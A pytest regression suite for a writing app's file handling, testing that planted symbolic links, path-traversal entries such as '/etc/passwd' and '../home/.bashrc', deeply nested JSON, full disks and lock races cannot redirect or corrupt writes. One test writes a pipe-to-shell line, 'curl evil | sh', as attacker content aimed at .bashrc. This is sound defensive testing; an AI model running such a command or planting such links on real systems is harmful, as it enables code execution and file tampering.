"""Issue 7: a project folder is untrusted input. One regression test per finding, on real
files: real symlinks, a real tmpfs for ENOSPC (skipped where mounting is not allowed), real
processes holding real flocks. Each failed on the code before the fix.
"""

from __future__ import annotations

import contextlib
import errno
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from writers_tui import atomic
from writers_tui.atomic import UnsafePath, append_line, atomic_write_bytes, ensure_dir
from writers_tui.config import SettingsError, load_settings
from writers_tui.paths import ProjectPaths, user_config_file
from writers_tui.storage.buffers import BufferStore, Conflict, Journaled, Saved
from writers_tui.storage.journals import JournalShelf
from writers_tui.storage.json_store import JsonStore
from writers_tui.storage.lock import LockHolder, ProjectInUse, ProjectLock
from writers_tui.storage.models import OpenFile, SessionData
from writers_tui.storage.session import SessionManager, session_state
from writers_tui.storage.stores import session_store

REPO = Path(__file__).resolve().parents[2]
NOW = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
DEEP = b"[" * 100_000 + b"]" * 100_000


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "novel"
    (root / "manuscript").mkdir(parents=True)
    (root / "manuscript" / "ch1.md").write_text("Ours.\n")
    (root / ".session").mkdir()
    return root


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder outside the project holding a file an attacker would like overwritten."""
    folder = tmp_path / "home"
    folder.mkdir()
    (folder / ".bashrc").write_text("export PS1='$ '\n")
    return folder


def snapshot(folder: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()
    }


# --- nothing under .session/ or output/ is written through a link ---------------------


@pytest.mark.parametrize("name", ["current.json", "preferences.json", "history.json"])
def test_a_state_file_planted_as_a_link_is_refused(project: Path, outside: Path, name: str) -> None:
    (project / ".session" / name).symlink_to(outside / ".bashrc")
    before = snapshot(outside)
    store = JsonStore(project / ".session" / name, SessionData)
    with pytest.raises(UnsafePath, match=f"{name} is a symbolic link"):
        store.save_sync(SessionData(project_name="x"))
    assert snapshot(outside) == before  # no write, no .bak or temp beside the target
    assert (project / ".session" / name).is_symlink()  # not silently replaced either


@pytest.mark.parametrize("relative", [".session/costs.jsonl", "output/reports/scores.jsonl"])
def test_an_append_only_log_planted_as_a_link_is_refused(
    project: Path, outside: Path, relative: str
) -> None:
    log = project / relative
    log.parent.mkdir(parents=True, exist_ok=True)
    log.symlink_to(outside / ".bashrc")
    before = snapshot(outside)
    with pytest.raises(UnsafePath):
        append_line(log, b'{"cost": 1}')
    assert snapshot(outside) == before


@pytest.mark.parametrize("linked", ["output", "output/reports"])
def test_a_linked_output_folder_is_refused(project: Path, outside: Path, linked: str) -> None:
    (project / linked).parent.mkdir(parents=True, exist_ok=True)
    (project / linked).symlink_to(outside, target_is_directory=True)
    before = snapshot(outside)
    with pytest.raises(UnsafePath, match=f"{linked} is a symbolic link"):
        append_line(project / "output" / "reports" / "scores.jsonl", b"{}")
    with pytest.raises(UnsafePath):
        atomic_write_bytes(project / "output" / "reports" / "report.md", b"# Report\n")
    assert snapshot(outside) == before


def test_a_session_folder_linked_to_another_project_is_refused(
    tmp_path: Path, outside: Path
) -> None:
    other = tmp_path / "other-novel"
    (other / ".session").mkdir(parents=True)
    (other / ".session" / "lock").write_text("")
    (other / ".session" / (".current.json.p999999-" + "0" * 32 + ".tmp")).write_text("x")
    root = tmp_path / "novel"
    (root / "manuscript").mkdir(parents=True)
    (root / ".session").symlink_to(other / ".session", target_is_directory=True)
    before = snapshot(other)
    with pytest.raises(UnsafePath, match=r"\.session is a symbolic link"):
        SessionManager(root).open()
    assert snapshot(other) == before


def test_the_lock_file_planted_as_a_link_is_refused(project: Path, outside: Path) -> None:
    (project / ".session" / "lock").symlink_to(outside / ".bashrc")
    before = snapshot(outside)
    with pytest.raises(UnsafePath, match="lock is a symbolic link"):
        ProjectLock(project).acquire()
    assert snapshot(outside) == before


def test_a_backup_name_planted_as_a_link_is_refused(project: Path, outside: Path) -> None:
    store = session_store(project)
    store.save_sync(SessionData(project_name="a"))
    (project / ".session" / "current.json.bak").symlink_to(outside / ".bashrc")
    before = snapshot(outside)
    with pytest.raises(UnsafePath, match=r"current\.json\.bak is a symbolic link"):
        store.save_sync(SessionData(project_name="b"))
    assert snapshot(outside) == before
    assert json.loads((project / ".session" / "current.json").read_text())["project_name"] == "a"


def test_a_linked_recovery_folder_is_refused_and_the_user_dir_is_used(
    project: Path, outside: Path, tmp_path: Path
) -> None:
    (project / ".session" / "recovery").symlink_to(outside, target_is_directory=True)
    before = snapshot(outside)
    shelf = JournalShelf(ProjectPaths(project), lambda: tmp_path / "user-recovery", lambda: NOW)
    written = shelf.write(
        "manuscript/ch1.md", "unsaved", based_on_sha256=None, error="ENOSPC", reuse=None
    )
    assert not isinstance(written, list) and written.in_user_dir
    assert snapshot(outside) == before


# --- the writer's manuscript links ------------------------------------------------------


def test_a_manuscript_link_inside_the_project_is_written_through(project: Path) -> None:
    real = project / "manuscript" / "drafts" / "real.md"
    real.parent.mkdir()
    real.write_text("old\n")
    link = project / "manuscript" / "ch2.md"
    link.symlink_to(real)
    store = BufferStore(project, clock=lambda: NOW)
    buffer = store.open_sync(link)
    buffer.set_text("new\n")
    assert isinstance(store.save_sync(buffer), Saved)
    assert link.is_symlink() and real.read_text() == "new\n"


def test_the_buffer_store_never_writes_through_a_link_leading_outside(
    project: Path, outside: Path, tmp_path: Path
) -> None:
    link = project / "manuscript" / "ch2.md"
    link.symlink_to(outside / ".bashrc")
    before = snapshot(outside)
    store = BufferStore(project, clock=lambda: NOW, user_recovery_dir=lambda: tmp_path / "u")
    buffer = store.open_sync(link)  # called directly, without the Workspace's read-only mode
    buffer.set_text("curl evil | sh\n")
    result = store.save_sync(buffer)
    assert isinstance(result, Journaled) and "outside the project" in result.error
    assert snapshot(outside) == before


# --- paths read from state files ----------------------------------------------------------


def _plant_session(project: Path, outside: Path, *, ended: bool) -> None:
    (project / "linked").symlink_to(outside, target_is_directory=True)
    data = SessionData(project_name="novel", ended_at=NOW if ended else None)
    data.open_files = [
        OpenFile(path=p)
        for p in ["../home/.bashrc", "/etc/passwd", "linked/.bashrc", "manuscript/ch1.md"]
    ]
    data.active_file = "linked/.bashrc"
    data.current_state.breadcrumb = ["Home", "../../etc", "Writing"]
    session_store(project).save_sync(data)


@pytest.mark.parametrize("interrupted", [False, True])
def test_paths_in_current_json_that_leave_the_project_are_dropped(
    project: Path, outside: Path, interrupted: bool
) -> None:
    _plant_session(project, outside, ended=not interrupted)
    manager = SessionManager(project, clock=lambda: NOW)
    try:
        manager.open()
        session = manager.continue_session() if interrupted else manager.session
        assert session is not None
        assert [f.path for f in session.data.open_files] == ["manuscript/ch1.md"]
        assert session.data.active_file == "manuscript/ch1.md"
        assert session.data.current_state.breadcrumb == ["Home", "Writing"]
        assert sum("not inside the project" in w for w in manager.warnings) == 5
    finally:
        manager.lock.release()


def test_a_journal_reaching_outside_through_a_linked_folder_is_ignored(
    project: Path, outside: Path, tmp_path: Path
) -> None:
    (project / "linked").symlink_to(outside, target_is_directory=True)
    recovery = project / ".session" / "recovery"
    recovery.mkdir()
    (recovery / "x.md").write_text("payload")
    (recovery / "x.json").write_text(json.dumps({"path": "linked/.bashrc", "saved_at": "1"}))
    (recovery / "y.md").write_text("fine")
    (recovery / "y.json").write_text(json.dumps({"path": "manuscript/ch1.md", "saved_at": "2"}))
    shelf = JournalShelf(ProjectPaths(project), lambda: tmp_path / "u", lambda: NOW)
    assert [j.original.name for j in shelf.list()] == ["ch1.md"]


# --- the lock ---------------------------------------------------------------------------------

HOLDER = """
import sys, time
from pathlib import Path
from writers_tui.storage.lock import ProjectLock
lock = ProjectLock(Path(sys.argv[1])).acquire()
print("held", flush=True)
sys.stdin.read()
"""

TRY_ACQUIRE = """
import sys
from pathlib import Path
from writers_tui.storage.lock import ProjectInUse, ProjectLock
try:
    ProjectLock(Path(sys.argv[1])).acquire()
except ProjectInUse:
    sys.exit(3)
"""


def _python(code: str, *args: str, **kwargs: Any) -> subprocess.Popen[str]:
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    return subprocess.Popen([sys.executable, "-c", code, *args], env=env, text=True, **kwargs)


def _second_instance_exit(root: Path) -> int:
    return _python(TRY_ACQUIRE, str(root)).wait(timeout=30)


def _sync_tool_replaces(lock: Path, content: bytes) -> None:
    staging = lock.with_name("lock.sync-tmp")
    staging.write_bytes(content)
    os.replace(staging, lock)


def test_a_lock_replaced_by_rename_keeps_the_second_instance_out(project: Path) -> None:
    holder = _python(HOLDER, str(project), stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "held"
        lock = project / ".session" / "lock"
        _sync_tool_replaces(lock, lock.read_bytes())  # a sync tool copies it back
        assert _second_instance_exit(project) == 3
        assert session_state(project).state.value == "open"
    finally:
        holder.kill()
        holder.wait()


def test_the_holder_notices_a_replaced_lock_and_takes_it_again(project: Path) -> None:
    first = ProjectLock(project).acquire()
    try:
        assert first.check() is None
        _sync_tool_replaces(first.path, b"")  # even an empty replacement
        warning = first.check()
        assert warning is not None and "replaced" in warning
        assert first.check() is None
        assert _second_instance_exit(project) == 3
        with pytest.raises(ProjectInUse):
            ProjectLock(project).acquire()
    finally:
        first.release()
    assert _second_instance_exit(project) == 0


def test_a_lock_nested_100000_deep_is_a_stale_holder_not_a_crash(project: Path) -> None:
    (project / ".session" / "lock").write_bytes(DEEP)
    assert LockHolder.parse(DEEP.decode()) is None
    assert session_state(project).state.value == "none"
    lock = ProjectLock(project).acquire()
    assert lock.was_interrupted()
    lock.release()


# --- a real full disk -------------------------------------------------------------------------


@pytest.fixture
def tiny_disk(tmp_path: Path) -> Iterator[Path]:
    """A 256 KiB tmpfs (real ENOSPC); skipped where this machine does not allow mounting."""
    mount = tmp_path / "tmpfs"
    mount.mkdir()
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(mount)],
        capture_output=True,
        check=False,
    )
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {done.stderr.decode().strip()}")
    try:
        yield mount
    finally:
        subprocess.run(["umount", "-l", str(mount)], check=False)


def _fill(folder: Path) -> Path:
    """Fill the file system (a real ENOSPC from then on); remove the file to free it."""
    filler = folder / "filler"
    with open(filler, "wb", buffering=0) as handle, contextlib.suppress(OSError):
        while True:
            handle.write(b"x" * 4096)
    return filler


def _open_fds() -> set[str]:
    return set(os.listdir("/proc/self/fd"))


def test_enospc_writing_the_lock_holder_does_not_leak_the_flock(tiny_disk: Path) -> None:
    root = tiny_disk / "novel"
    (root / ".session").mkdir(parents=True)
    filler = _fill(tiny_disk)
    fds = _open_fds()
    with pytest.raises(OSError) as raised:
        ProjectLock(root).acquire()
    assert raised.value.errno == errno.ENOSPC
    assert _open_fds() == fds  # the flock'd descriptor was closed
    filler.unlink()
    assert _second_instance_exit(root) == 0  # not "open in another writers-tui"


def _manager_on(tiny_disk: Path) -> SessionManager:
    root = tiny_disk / "novel"
    (root / "manuscript").mkdir(parents=True)
    manager = SessionManager(root, clock=lambda: NOW)
    manager.open()
    return manager


def test_a_failed_close_keeps_the_lock_until_the_retry_succeeds(tiny_disk: Path) -> None:
    manager = _manager_on(tiny_disk)
    filler = _fill(tiny_disk)
    with pytest.raises(OSError) as raised:
        manager.close(total_cost=Decimal(0))
    assert raised.value.errno == errno.ENOSPC
    assert manager.lock.held
    assert _second_instance_exit(manager.root) == 3  # nobody takes the session meanwhile
    filler.unlink()
    manager.close(total_cost=Decimal(0))
    assert not manager.lock.held
    assert session_state(manager.root).state.value == "closed"


def test_abandoning_after_a_failed_close_leaves_an_interrupted_session(
    tiny_disk: Path,
) -> None:
    manager = _manager_on(tiny_disk)
    filler = _fill(tiny_disk)
    with pytest.raises(OSError):
        manager.close(total_cost=Decimal(0))
    manager.abandon()
    assert not manager.lock.held
    filler.unlink()
    assert session_state(manager.root).state.value == "interrupted"
    assert _second_instance_exit(manager.root) == 0


# --- outside edits in the save window -----------------------------------------------------------


def _edit_when(monkeypatch: pytest.MonkeyPatch, call: str, matches: str, edit: Any) -> list[int]:
    """Run ``edit()`` once, the first time ``os.<call>`` touches a name containing
    ``matches`` (the real call then proceeds): an outside editor landing at that moment."""
    real = getattr(os, call)
    fired: list[int] = []

    def hooked(*args: Any, **kwargs: Any) -> Any:
        names = [a for a in args if isinstance(a, str)]
        if not fired and any(matches in name for name in names):
            fired.append(1)
            edit()
        return real(*args, **kwargs)

    monkeypatch.setattr(os, call, hooked)
    return fired


def _buffer_with_edits(project: Path) -> tuple[BufferStore, Path, Any]:
    path = project / "manuscript" / "ch1.md"
    store = BufferStore(project, clock=lambda: NOW)
    buffer = store.open_sync(path)
    buffer.set_text("Mine.\n")
    return store, path, buffer


def _renamed_in(path: Path, text: str) -> None:
    staging = path.with_name("theirs.tmp")
    staging.write_text(text)
    os.replace(staging, path)


def test_an_outside_edit_during_the_temp_fsync_becomes_a_conflict(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    store, path, buffer = _buffer_with_edits(project)
    real_fsync = os.fsync
    fired: list[int] = []

    def fsync(fd: int) -> None:
        real_fsync(fd)
        if not fired and os.readlink(f"/proc/self/fd/{fd}").endswith(".tmp"):
            fired.append(1)
            _renamed_in(path, "Theirs, saved during our fsync.\n")

    monkeypatch.setattr(os, "fsync", fsync)
    result = store.save_sync(buffer)
    monkeypatch.undo()
    assert fired
    assert isinstance(result, Conflict)
    assert path.read_text() == "Theirs, saved during our fsync.\n"
    assert result.copy_path.read_text() == "Mine.\n"


def test_an_in_place_edit_after_the_check_is_put_back_and_ours_kept_aside(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    store, path, buffer = _buffer_with_edits(project)
    # Lands between the last check and the rename: the rename replaces it, the kept link
    # shows it, and their text is put back.
    with monkeypatch.context() as patch:
        fired = _edit_when(
            patch, "link", ".prev", lambda: path.write_text("Theirs, written in place.\n")
        )
        result = store.save_sync(buffer)
    assert fired
    assert isinstance(result, Conflict)
    assert path.read_text() == "Theirs, written in place.\n"
    assert result.copy_path.read_text() == "Mine.\n"
    assert not [p for p in path.parent.iterdir() if p.name.endswith(".prev")]


def test_a_save_without_outside_edits_leaves_no_trace(project: Path) -> None:
    store, path, buffer = _buffer_with_edits(project)
    assert isinstance(store.save_sync(buffer), Saved)
    assert sorted(p.name for p in path.parent.iterdir()) == ["ch1.md"]


# --- JSON nested 100,000 deep, unreadable config ---------------------------------------------


def test_a_journal_sidecar_nested_100000_deep_is_skipped(project: Path, tmp_path: Path) -> None:
    recovery = project / ".session" / "recovery"
    recovery.mkdir()
    (recovery / "x.md").write_text("text")
    (recovery / "x.json").write_bytes(DEEP)
    shelf = JournalShelf(ProjectPaths(project), lambda: tmp_path / "u", lambda: NOW)
    assert shelf.list() == []


def test_current_json_nested_100000_deep_is_quarantined(project: Path) -> None:
    (project / ".session" / "current.json").write_bytes(DEEP)
    manager = SessionManager(project, clock=lambda: NOW)
    manager.open()
    manager.lock.release()
    assert any("current.json is unusable" in w for w in manager.warnings)
    assert list((project / ".session").glob("current.json.corrupt-*"))


def test_a_user_config_nested_100000_deep_is_a_one_line_error(project: Path) -> None:
    config = user_config_file()
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_bytes(DEEP)
    with pytest.raises(SettingsError) as raised:
        load_settings(project)
    assert "\n" not in str(raised.value) and "not valid JSON" in str(raised.value)


def test_an_unreadable_config_says_it_cannot_be_read(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    config = user_config_file()
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text("{}")
    real_open = Path.open

    def refuse(self: Path, *args: Any, **kwargs: Any) -> Any:
        if self == config:  # root ignores chmod 000, so the EACCES is injected
            raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), str(self))
        return real_open(self, *args, **kwargs)

    monkeypatch.setattr(Path, "open", refuse)
    with pytest.raises(SettingsError, match="cannot be read: Permission denied"):
        load_settings(project)


def test_unsafe_path_is_one_line_naming_the_path(tmp_path: Path) -> None:
    error = UnsafePath(tmp_path / ".session" / "costs.jsonl")
    assert isinstance(error, OSError) and "\n" not in str(error)
    assert str(error).startswith(f"{tmp_path}/.session/costs.jsonl is a symbolic link")
    assert error.strerror == str(error)


def test_ensure_dir_does_not_create_folders_through_a_link(project: Path, outside: Path) -> None:
    (project / "output").symlink_to(outside, target_is_directory=True)
    with pytest.raises(UnsafePath):
        ensure_dir(project / "output" / "reports")
    assert not (outside / "reports").exists()
    with pytest.raises(UnsafePath):  # nor cleans another folder's temp files
        atomic.remove_stale_temps(project / "output")
